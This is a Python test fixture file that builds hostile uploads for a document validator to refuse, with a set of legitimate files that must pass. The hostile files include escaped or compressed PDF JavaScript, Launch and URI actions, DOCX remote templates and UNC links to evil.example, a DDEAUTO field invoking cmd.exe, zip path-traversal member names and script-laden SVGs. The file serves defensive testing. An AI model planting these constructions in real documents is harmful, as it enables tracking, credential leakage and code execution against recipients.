"""Hostile files built by the test, in the shapes an outside audit sent: PDF actions written
with `#xx` escapes or packed in compressed object streams, OOXML relationships that fetch
or embed, ODF links and objects, SVG animation, broken images and archives. Each case is
(file name, bytes, a fragment of the refusal message). `LEGITIMATE` holds documents that
look like the hostile ones but are what contributors really send: they must pass."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.library.test_uploads import CONTENT_TYPES, docx, minimal_pdf, zip_of

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"PE\x00\x00"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200


# ---------------------------------------------------------------------------- images
def png(width: int = 4, height: int = 4) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (0, 0, 145)).save(out, "PNG")
    return out.getvalue()


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (225, 0, 15)).save(out, "JPEG")
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def png_bad_crc() -> bytes:
    data = bytearray(png())
    idat = data.find(b"IDAT")
    length = struct.unpack(">I", data[idat - 4 : idat])[0]
    data[idat + 4 + length] ^= 0xFF  # first byte of the chunk's CRC
    return bytes(data)


# ---------------------------------------------------------------------------- PDF
def pdf_with(catalog_extra: bytes = b"", *, page_extra: bytes = b"", objects: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF with extra catalog/page entries and extra objects numbered from 6."""
    stream = b"BT /F1 12 Tf 72 720 Td (Bonjour) Tj ET"
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(bodies) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def pdf_object_stream(packed: dict[int, bytes], catalog_extra: bytes) -> bytes:
    """A PDF 1.5 whose objects `packed` (numbers ≥ 6) sit in a compressed object stream,
    with a cross-reference stream: invisible to any search of the file's bytes."""
    stream = b"BT /F1 12 Tf 72 720 Td (Bonjour) Tj ET"
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    numbers = sorted(packed)
    header, body = b"", b""
    for number in numbers:
        header += f"{number} {len(body)} ".encode()
        body += packed[number] + b" "
    objstm_number = max(numbers) + 1
    compressed = zlib.compress(header + body)
    plain[objstm_number] = (
        (
            f"<< /Type /ObjStm /N {len(numbers)} /First {len(header)} /Filter /FlateDecode /Length {len(compressed)} >>"
            "\nstream\n"
        ).encode()
        + compressed
        + b"\nendstream"
    )
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    offsets: dict[int, int] = {}
    for number, obj in sorted(plain.items()):
        offsets[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode() + obj + b"\nendobj\n")
    xref_number = objstm_number + 1
    offsets[xref_number] = out.tell()
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in packed:
            rows.append(b"\x02" + struct.pack(">I", objstm_number) + struct.pack(">H", numbers.index(number)))
        else:
            rows.append(b"\x01" + struct.pack(">I", offsets[number]) + b"\x00\x00")
    table = zlib.compress(b"".join(rows))
    out.write(
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        f"/Length {len(table)} >>\nstream\n".encode()
        + table
        + b"\nendstream\nendobj\n"
    )
    out.write(f"startxref\n{offsets[xref_number]}\n%%EOF\n".encode())
    return out.getvalue()


def link_annotation(action: bytes) -> dict[str, bytes]:
    return {
        "page_extra": b"/Annots [6 0 R]",
        "objects": (b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A " + action + b" >>",),
    }


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(minimal_pdf("secret"))))
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# ---------------------------------------------------------------------------- OOXML
def rels(*relationships: tuple[str, str, str]) -> bytes:
    """(type suffix, target, target mode) → a .rels part."""
    body = "".join(
        f'<Relationship Id="rId{i}" Type="{R}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(relationships, start=10)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{body}</Relationships>'.encode()


def docx_body(inner: str, **extra: bytes) -> bytes:
    document = (f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body><w:p>{inner}</w:p></w:body></w:document>').encode()
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document, **extra})


def docx_rels(
    *relationships: tuple[str, str, str], part: str = "word/_rels/document.xml.rels", **extra: bytes
) -> bytes:
    return docx(**{part: rels(*relationships), **extra})


def pptx_with(**extra: bytes) -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES.replace(b"word/document", b"ppt/presentation"),
            "ppt/presentation.xml": b"<p:presentation xmlns:p='urn:x'/>",
            "ppt/slides/slide1.xml": b"<p:sld xmlns:p='urn:x'/>",
            **extra,
        }
    )


def renamed_member(data: bytes, old: str, new: str) -> bytes:
    """The same archive with one member renamed in place (local header and central directory)."""
    assert len(old) == len(new)
    return data.replace(old.encode(), new.encode())


def with_bad_crc(data: bytes, member: str) -> bytes:
    archive = zipfile.ZipFile(io.BytesIO(data))
    info = archive.getinfo(member)
    raw = bytearray(data)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    raw[start + 2] ^= 0x55  # corrupt the compressed data of the member
    return bytes(raw)


def with_compression(data: bytes, method: int) -> bytes:
    """Every member's compression method set to `method` in both headers."""
    raw = bytearray(data)
    archive = zipfile.ZipFile(io.BytesIO(data))
    for info in archive.infolist():
        struct.pack_into("<H", raw, info.header_offset + 8, method)
    position = raw.find(b"PK\x01\x02")
    while position >= 0:
        struct.pack_into("<H", raw, position + 10, method)
        position = raw.find(b"PK\x01\x02", position + 4)
    return bytes(raw)


def duplicated_member() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", b"<a/>")
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("word/document.xml", b"<b/>")
    return out.getvalue()


# ---------------------------------------------------------------------------- ODF
ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
)


def odt_with(body: str, **extra: bytes) -> bytes:
    content = (
        f"<office:document-content {ODF_NS}><office:body><office:text>{body}</office:text></office:body>"
        "</office:document-content>"
    ).encode()
    return zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content, **extra})


def manifest(*entries: tuple[str, str]) -> bytes:
    body = "".join(f'<manifest:file-entry manifest:full-path="{p}" manifest:media-type="{m}"/>' for p, m in entries)
    return (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f"{body}</manifest:manifest>"
    ).encode()


# ---------------------------------------------------------------------------- SVG
def svg(inner: str, *, attributes: str = "") -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{inner}</svg>'
    ).encode()


ACTIVE = "contenu actif"
LINK = "lien externe"
SVG = "SVG active"

HOSTILE_MORE: dict[str, tuple[str, bytes, str]] = {
    # -- PDF: names written with #xx escapes
    "PDF OpenAction JavaScript written J#61vaScript": (
        "fiche.pdf",
        pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        ACTIVE,
    ),
    "PDF OpenAction Launch written L#61unch": (
        "fiche.pdf",
        pdf_with(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
        ACTIVE,
    ),
    "PDF link SubmitForm written Subm#69tForm": (
        "fiche.pdf",
        pdf_with(**link_annotation(b"<< /S /Subm#69tForm /F (https://evil.example/collect) >>")),
        ACTIVE,
    ),
    "PDF OpenAction URI written #55#52#49 (fetch on open)": (
        "fiche.pdf",
        pdf_with(b"/OpenAction << /S /#55#52#49 /#55#52#49 (https://evil.example/beacon) >>"),
        ACTIVE,
    ),
    "PDF page additional action URI (fetch on page open)": (
        "fiche.pdf",
        pdf_with(page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/beacon) >> >>"),
        ACTIVE,
    ),
    "PDF link to a UNC path": (
        "fiche.pdf",
        pdf_with(**link_annotation(b"<< /S /URI /URI (file://evil.example/share/x) >>")),
        ACTIVE,
    ),
    "PDF link to javascript:": (
        "fiche.pdf",
        pdf_with(**link_annotation(b"<< /S /URI /URI (javascript:app.alert(1)) >>")),
        ACTIVE,
    ),
    "PDF GoToR remote document": (
        "fiche.pdf",
        pdf_with(**link_annotation(b"<< /S /GoT#6fR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>")),
        ACTIVE,
    ),
    "PDF ImportData action": ("fiche.pdf", pdf_with(b"/OpenAction << /S /Import#44ata /F (x.fdf) >>"), ACTIVE),
    "PDF XFA form written X#46A": (
        "fiche.pdf",
        pdf_with(b"/AcroForm << /Fields [] /X#46A 6 0 R >>", objects=(b"(x)",)),
        ACTIVE,
    ),
    "PDF embedded file written EmbeddedF#69les": (
        "fiche.pdf",
        pdf_with(b"/Names << /EmbeddedF#69les << /Names [(a.exe) 6 0 R] >> >>", objects=(b"<< /Type /Filespec >>",)),
        ACTIVE,
    ),
    "PDF JavaScript in a compressed object stream": (
        "fiche.pdf",
        pdf_object_stream({6: b"<< /S /JavaScript /JS (app.alert(1)) >>"}, b"/OpenAction 6 0 R"),
        ACTIVE,
    ),
    "PDF Launch in a compressed object stream": (
        "fiche.pdf",
        pdf_object_stream({6: b"<< /S /Launch /F (calc.exe) >>"}, b"/OpenAction 6 0 R"),
        ACTIVE,
    ),
    "PDF URI OpenAction in a compressed object stream": (
        "fiche.pdf",
        pdf_object_stream({6: b"<< /S /URI /URI (https://evil.example/beacon) >>"}, b"/OpenAction 6 0 R"),
        ACTIVE,
    ),
    "PDF embedded files name tree in a compressed object stream": (
        "fiche.pdf",
        pdf_object_stream({6: b"<< /EmbeddedFiles << /Names [] >> >>"}, b"/Names 6 0 R"),
        ACTIVE,
    ),
    "PDF encrypted (cannot be inspected)": ("fiche.pdf", encrypted_pdf(), "chiffré"),
    # -- OOXML: relationships
    "DOCX remote attached template (TargetMode External, http)": (
        "fiche.docx",
        docx_rels(("attachedTemplate", "https://evil.example/t.dotm", "External"), part="word/_rels/settings.xml.rels"),
        "modèle externe",
    ),
    "DOCX attached template on a UNC share": (
        "fiche.docx",
        docx_rels(
            ("attachedTemplate", "\\\\evil.example\\share\\t.dotx", "External"), part="word/_rels/settings.xml.rels"
        ),
        "modèle externe",
    ),
    "DOCX external OLE link": (
        "fiche.docx",
        docx_rels(("oleObject", "file:///\\\\evil.example\\share\\x.xlsx", "External")),
        "objet OLE",
    ),
    "DOCX external image on a UNC share (fetched on open)": (
        "fiche.docx",
        docx_rels(("image", "\\\\evil.example\\share\\logo.png", "External")),
        LINK,
    ),
    "DOCX external image over http (web bug)": (
        "fiche.docx",
        docx_rels(("image", "https://evil.example/pixel.png", "External")),
        LINK,
    ),
    "DOCX hyperlink to javascript:": ("fiche.docx", docx_rels(("hyperlink", "javascript:alert(1)", "External")), LINK),
    "DOCX hyperlink to a UNC path": (
        "fiche.docx",
        docx_rels(("hyperlink", "\\\\evil.example\\share", "External")),
        LINK,
    ),
    "DOCX hyperlink to file:": (
        "fiche.docx",
        docx_rels(("hyperlink", "file:///C:/Windows/calc.exe", "External")),
        LINK,
    ),
    "DOCX frameset loading a remote page": (
        "fiche.docx",
        docx_rels(("frame", "https://evil.example/f.html", "External"), part="word/_rels/webSettings.xml.rels"),
        "cadre",
    ),
    "DOCX remote sub-document": (
        "fiche.docx",
        docx_rels(("subDocument", "https://evil.example/s.docx", "External")),
        "cadre",
    ),
    "DOCX altChunk importing HTML": (
        "fiche.docx",
        docx_rels(("aFChunk", "afchunk.mht", ""), **{"word/afchunk.mht": b"<html><script>x</script></html>"}),
        "altChunk",
    ),
    "DOCX ActiveX control": (
        "fiche.docx",
        docx_rels(("control", "activeX/activeX1.xml", ""), **{"word/activeX/activeX1.xml": b"<ax/>"}),
        "ActiveX",
    ),
    "DOCX internal relationship escaping the package": (
        "fiche.docx",
        docx_rels(("image", "../../../secret.png", "")),
        LINK,
    ),
    "DOCX embedded OLE object holding an executable": (
        "fiche.docx",
        docx_rels(("oleObject", "embeddings/oleObject1.bin", ""), **{"word/embeddings/oleObject1.bin": OLE2 + EXE}),
        "OLE",
    ),
    "DOCX embedded OLE part without relationship": (
        "fiche.docx",
        docx(**{"word/embeddings/data.bin": OLE2}),
        "OLE",
    ),
    "DOCX executable named image1.png": ("fiche.docx", docx(**{"word/media/image1.png": EXE}), "programme"),
    "DOCX HTML named image1.jpeg": (
        "fiche.docx",
        docx(**{"word/media/image1.jpeg": b"<html><script>alert(1)</script></html>"}),
        "prétend être",
    ),
    "DOCX executable without extension": ("fiche.docx", docx(**{"word/embeddings/package": EXE}), "programme"),
    "DOCX OLE content type declared": (
        "fiche.docx",
        zip_of(
            {
                "[Content_Types].xml": CONTENT_TYPES.replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
                    b"</Types>",
                ),
                "word/document.xml": b"<a/>",
            }
        ),
        "objets actifs",
    ),
    "DOCX DDEAUTO field": (
        "fiche.docx",
        docx_body(
            '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
            '"/k calc" </w:instrText></w:r>'
        ),
        "lance une commande",
    ),
    "DOCX INCLUDEPICTURE field (fetch on open)": (
        "fiche.docx",
        docx_body("<w:fldSimple w:instr=' INCLUDEPICTURE \"https://evil.example/p.png\" \\d '/>"),
        "charge un fichier",
    ),
    "DOCX embedded OLE element in the body": (
        "fiche.docx",
        docx_body('<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:object></w:r>'),
        "OLE",
    ),
    "DOCX entity expansion in a secondary part": (
        "fiche.docx",
        docx(**{"word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaa">]><s>&a;</s>'}),
        "déclarations XML interdites",
    ),
    "PPTX external OLE link": (
        "slides.pptx",
        pptx_with(**{"ppt/slides/_rels/slide1.xml.rels": rels(("oleObject", "\\\\evil.example\\x.xlsx", "External"))}),
        "OLE",
    ),
    "PPTX external video (fetched on open)": (
        "slides.pptx",
        pptx_with(**{"ppt/slides/_rels/slide1.xml.rels": rels(("video", "https://evil.example/v.mp4", "External"))}),
        LINK,
    ),
    "PPTX executable named image1.jpeg": ("slides.pptx", pptx_with(**{"ppt/media/image1.jpeg": EXE}), "programme"),
    # -- archives: names and structure
    "DOCX member named ../../x": (
        "fiche.docx",
        renamed_member(docx(**{"word/abcdefg": b"x"}), "word/abcdefg", "../../xxxxxx"),
        "nom dangereux",
    ),
    "DOCX member with an absolute path": (
        "fiche.docx",
        renamed_member(docx(**{"word/abcdef": b"x"}), "word/abcdef", "/etc/cron.d"),
        "nom dangereux",
    ),
    "DOCX member with a backslash path": (
        "fiche.docx",
        renamed_member(docx(**{"word/abcdefgh": b"x"}), "word/abcdefgh", "..\\..\\evilxyz"),
        "nom dangereux",
    ),
    "DOCX member name with a NUL byte": (
        "fiche.docx",
        renamed_member(docx(**{"word/ab.xml": b"<a/>"}), "word/ab.xml", "word/a\x00.xml"),
        "nom dangereux",
    ),
    "DOCX duplicated member name": ("fiche.docx", duplicated_member(), "nom dangereux"),
    "DOCX with a bad CRC": ("fiche.docx", with_bad_crc(docx("x" * 2000), "word/document.xml"), "endommagée"),
    "DOCX with an unknown compression method": ("fiche.docx", with_compression(docx(), 99), "compression inconnue"),
    "DOCX with bzip2 compression (Office cannot read it)": (
        "fiche.docx",
        zip_of({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<a/>"}, compression=zipfile.ZIP_BZIP2),
        "compression inconnue",
    ),
    "DOCX truncated": ("fiche.docx", docx("x" * 5000)[:-60], "endommagée"),
    # -- ODF
    "ODT linked image over http (fetched on open)": (
        "fiche.odt",
        odt_with('<draw:frame><draw:image xlink:href="https://evil.example/p.png"/></draw:frame>'),
        LINK,
    ),
    "ODT linked image on a UNC share": (
        "fiche.odt",
        odt_with('<draw:frame><draw:image xlink:href="\\\\evil.example\\share\\p.png"/></draw:frame>'),
        LINK,
    ),
    "ODT linked section from a remote file": (
        "fiche.odt",
        odt_with('<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section>'),
        LINK,
    ),
    "ODT embedded OLE object": ("fiche.odt", odt_with("<draw:frame><draw:object-ole/></draw:frame>"), "objets actifs"),
    "ODT event listener running a macro": (
        "fiche.odt",
        odt_with(
            "<office:event-listeners><script:event-listener script:event-name='dom:load' "
            "xlink:href='vnd.sun.star.script:Standard.Module1.Main'/></office:event-listeners>"
        ),
        "objets actifs",
    ),
    "ODT hyperlink to a macro": (
        "fiche.odt",
        odt_with('<text:p><text:a xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic">x</text:a></text:p>'),
        LINK,
    ),
    "ODT hyperlink to javascript:": (
        "fiche.odt",
        odt_with('<text:p><text:a xlink:href="javascript:alert(1)">x</text:a></text:p>'),
        LINK,
    ),
    "ODT manifest declaring a script": (
        "fiche.odt",
        odt_with("", **{"META-INF/manifest.xml": manifest(("Scripts/x.js", "application/javascript"))}),
        "objets actifs",
    ),
    "ODT executable named Pictures/photo.png": ("fiche.odt", odt_with("", **{"Pictures/photo.png": EXE}), "programme"),
    "ODT member named ../x": (
        "fiche.odt",
        renamed_member(odt_with("", **{"Pictures/abcd": b"x"}), "Pictures/abcd", "../../../../x"),
        "nom dangereux",
    ),
    # -- SVG
    "SVG set attributeName=onmouseover": (
        "logo.svg",
        svg('<rect width="5" height="5"><set attributeName="onmouseover" to="alert(1)"/></rect>'),
        SVG,
    ),
    "SVG animate href to javascript:": (
        "logo.svg",
        svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
        SVG,
    ),
    "SVG use of an outside document": ("logo.svg", svg('<use href="https://evil.example/x.svg#a"/>'), SVG),
    "SVG image from a file: URL": ("logo.svg", svg('<image xlink:href="file:///etc/passwd"/>'), SVG),
    "SVG style element @import": ("logo.svg", svg("<style>@import url(https://evil.example/x.css);</style>"), SVG),
    "SVG style attribute url() outside": ("logo.svg", svg('<rect style="fill:url(https://evil.example/p)"/>'), SVG),
    "SVG prefixed script element": (
        "logo.svg",
        b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
        SVG,
    ),
    "SVG XHTML script in another namespace": (
        "logo.svg",
        svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
        SVG,
    ),
    "SVG link with an obfuscated javascript: (tab entity)": (
        "logo.svg",
        svg('<a href="jav&#x09;ascript:alert(1)"><text>x</text></a>'),
        SVG,
    ),
    "SVG xml:base pointing outside": ("logo.svg", svg('<g xml:base="https://evil.example/"><use href="#a"/></g>'), SVG),
    # -- images
    "PNG with a bad CRC": ("photo.png", png_bad_crc(), "pas une image valide"),
    "PNG claiming 100000×100000 pixels": ("photo.png", png_claiming(100_000, 100_000), "démesurées"),
    "PNG followed by an executable": ("photo.png", png() + EXE, "derrière l’image"),
    "JPEG followed by an HTML page": (
        "photo.jpg",
        jpeg() + b"<html><script>alert(1)</script></html>",
        "derrière l’image",
    ),
    "GIF followed by a PDF": ("anim.gif", gif() + minimal_pdf("x"), "derrière l’image"),
    "JPEG header then garbage": ("photo.jpg", b"\xff\xd8\xff\xe0" + b"garbage" * 40, "pas une image valide"),
    "PNG signature then garbage": ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, "pas une image valide"),
    "WebP header then garbage": ("photo.webp", b"RIFF\x20\x00\x00\x00WEBPVP8 " + b"\x00" * 40, "pas une image valide"),
}


def _legit_docx() -> bytes:
    return docx_rels(
        ("hyperlink", "https://www.modernisation.gouv.fr/", "External"),
        ("hyperlink", "mailto:contact@example.gouv.fr", "External"),
        ("image", "media/image1.png", ""),
        ("styles", "styles.xml", ""),
        **{"word/media/image1.png": png(), "word/styles.xml": b"<w:styles xmlns:w='urn:x'/>"},
    )


LEGITIMATE: dict[str, tuple[str, bytes]] = {
    "DOCX with hyperlinks, styles and an image": ("fiche.docx", _legit_docx()),
    "DOCX made from a local macro-free template (author's path)": (
        "fiche.docx",
        docx_rels(
            ("attachedTemplate", "file:///C:/Users/agent/Modeles/Fiche%20methode.dotx", "External"),
            part="word/_rels/settings.xml.rels",
        ),
    ),
    "DOCX with a HYPERLINK field": (
        "fiche.docx",
        docx_body("<w:fldSimple w:instr=' HYPERLINK \"https://www.numerique.gouv.fr/\" '/>"),
    ),
    "PPTX with a picture": (
        "slides.pptx",
        pptx_with(
            **{
                "ppt/slides/_rels/slide1.xml.rels": rels(("image", "../media/image1.jpeg", "")),
                "ppt/media/image1.jpeg": jpeg(),
            }
        ),
    ),
    "ODT with a hyperlink and an embedded picture": (
        "fiche.odt",
        odt_with(
            '<text:p><text:a xlink:href="https://www.etalab.gouv.fr/">lien</text:a></text:p>'
            '<draw:frame><draw:image xlink:href="Pictures/photo.png"/></draw:frame>',
            **{
                "Pictures/photo.png": png(),
                "META-INF/manifest.xml": manifest(
                    ("/", "application/vnd.oasis.opendocument.text"), ("Pictures/photo.png", "image/png")
                ),
            },
        ),
    ),
    "PDF with a link annotation": (
        "fiche.pdf",
        pdf_with(**link_annotation(b"<< /S /URI /URI (https://www.modernisation.gouv.fr/) >>")),
    ),
    "PDF 1.5 with a compressed object stream": (
        "fiche.pdf",
        pdf_object_stream({6: b"<< /Title (Fiche) >>"}, b"/Metadata 6 0 R"),
    ),
    "PNG": ("photo.png", png(64, 48)),
    "JPEG": ("photo.jpg", jpeg()),
    "GIF": ("anim.gif", gif()),
    "SVG with a gradient, a local use and Inkscape metadata": (
        "schema.svg",
        svg(
            '<defs><linearGradient id="g"><stop offset="0" stop-color="#000091"/></linearGradient>'
            '<circle id="c" r="4"/></defs><use href="#c" x="5" y="5"/><rect fill="url(#g)" width="5" height="5"/>'
            '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
            'pagecolor="#ffffff"/>'
            '<image width="2" height="2" href="data:image/png;base64,iVBORw0KGgo="/>'
        ),
    ),
}
